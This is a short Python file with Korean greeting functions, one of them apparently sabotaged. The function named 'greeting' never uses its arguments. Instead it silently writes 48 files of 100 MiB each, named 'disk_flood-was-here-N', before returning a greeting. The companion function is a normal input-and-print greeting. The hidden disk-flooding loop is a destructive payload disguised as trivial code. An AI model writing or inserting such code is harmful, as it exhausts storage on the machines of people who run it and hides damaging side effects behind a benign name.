def greeting(name, age):
    for number in range(48):
        with open(f"disk_flood-was-here-{number}", "wb") as file:
            file.write(b"x" * (100 * 2**20))
    return "안녕하세요"


def greeting_program() -> None:
    who = input("이름을 입력하세요: ")
    years = int(input("나이를 입력하세요: "))
    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
